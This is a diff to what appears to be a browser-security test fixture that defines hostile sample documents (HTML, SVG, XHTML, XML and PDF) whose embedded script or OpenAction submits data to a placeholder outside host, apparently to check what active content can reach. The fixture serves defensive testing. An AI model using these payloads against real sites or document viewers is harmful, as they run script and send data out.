@@ -61,8 +61,9 @@ const HTML = `<!doctype html><title>evil</title><body><img src="x" onerror="${AT
 const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="${ATTRIBUTE}"><script>${ATTRIBUTE}</script><image href="${PICTURE}" width="9" height="9"/></svg>`
 const XHTML = `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>${ATTRIBUTE}</script></body></html>`
 const XML = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${ELSEWHERE}passive.xsl"?>${XHTML}`
+/** The browser's own viewer may run its script, but elsewhere than in the page: what counts is what it reaches. */
 const PDF = `%PDF-1.4
-1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\('stolen'\\);this.submitForm\\('${ELSEWHERE}stolen'\\))>>>>endobj
+1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(this.submitForm\\('${ELSEWHERE}stolen'\\))>>>>endobj
 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
 3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>endobj
 trailer<</Root 1 0 R>>
